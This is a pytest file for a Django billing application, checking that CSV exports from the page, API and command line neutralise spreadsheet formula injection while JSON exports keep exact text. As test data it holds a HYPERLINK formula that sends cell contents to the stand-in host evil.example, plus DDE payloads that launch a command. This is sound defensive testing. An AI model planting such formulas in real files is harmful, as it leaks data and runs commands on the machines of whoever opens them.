"""Formula injection in the monthly export (issue 13, defect 2): a cell that a spreadsheet
would run as a formula is neutralised with a leading ``'`` in the CSV of the page, the API and
``orion billing export``; the JSON export keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.core.management import call_command
from django.test import Client

from orion.accounts.models import Customer, Enterprise, Partner
from orion.api.services import token_create
from orion.billing.export import spreadsheet_safe
from tests.billing.conftest import set_billing_start

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
HOSTILE = {
    "customer": FORMULA,
    "enterprise": "+cmd|' /C calc'!A0",
    "partner": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _poison(order) -> None:
    Customer.objects.filter(pk=order.customer_id).update(name=HOSTILE["customer"])
    Enterprise.objects.filter(pk=order.enterprise_id).update(name=HOSTILE["enterprise"])
    Partner.objects.filter(pk=order.partner_id).update(name=HOSTILE["partner"])


def _charge_rows(text: str) -> list[dict[str, str]]:
    return [r for r in csv.DictReader(io.StringIO(text)) if r["row"] == "charge"]


def _assert_neutralised(text: str) -> None:
    rows = _charge_rows(text)
    assert rows
    for row in rows:
        for column, value in HOSTILE.items():
            assert row[column] == "'" + value, (column, row[column])
        # Orion's own numbers are not touched.
        assert row["amount"][0].isdigit() and row["unit_price"][0].isdigit()
    totals = [r for r in csv.DictReader(io.StringIO(text)) if r["row"] == "customer_total"]
    assert totals and all(r["customer"] == "'" + FORMULA for r in totals)


def test_page_export_neutralises_formulas(a_order, staff):
    set_billing_start(a_order, date(2026, 12, 10))
    _poison(a_order)
    client = Client()
    client.force_login(staff)
    response = client.get("/billing/export.csv", {"month": "2026-12"})
    assert response.status_code == 200
    _assert_neutralised(response.content.decode())


def test_api_export_neutralises_csv_and_keeps_json_exact(a_order, tenant_a):
    set_billing_start(a_order, date(2026, 12, 10))
    _poison(a_order)
    secret = token_create(user=tenant_a.user, name="export").secret
    api = Client(headers={"Authorization": f"Bearer {secret}"})
    response = api.get("/api/v1/billing/export", {"month": "2026-12"})
    assert response.status_code == 200
    _assert_neutralised(response.content.decode())
    data = api.get("/api/v1/billing/export", {"month": "2026-12", "format": "json"}).json()
    assert {line["customer"] for line in data["lines"]} == {FORMULA}
    assert {line["partner"] for line in data["lines"]} == {HOSTILE["partner"]}


def test_cli_export_neutralises_formulas_and_json_is_exact(a_order, capsys):
    set_billing_start(a_order, date(2026, 12, 10))
    _poison(a_order)
    call_command("billing", "export", "--month", "2026-12", "--dry-run")
    _assert_neutralised(capsys.readouterr().out)
    call_command("billing", "export", "--month", "2026-12", "--dry-run", "--format", "json")
    data = json.loads(capsys.readouterr().out)
    assert {line["enterprise"] for line in data["lines"]} == {HOSTILE["enterprise"]}


@pytest.mark.parametrize("value", ["=1+1", "+A1", "-A1", "@SUM(A1)", "\tTAB", "\rCR",
                                   "-2+3+cmd|' /C calc'!A0"])
def test_every_trigger_character_is_neutralised(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "106.24", "Acme", "", "a=b", 7, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value
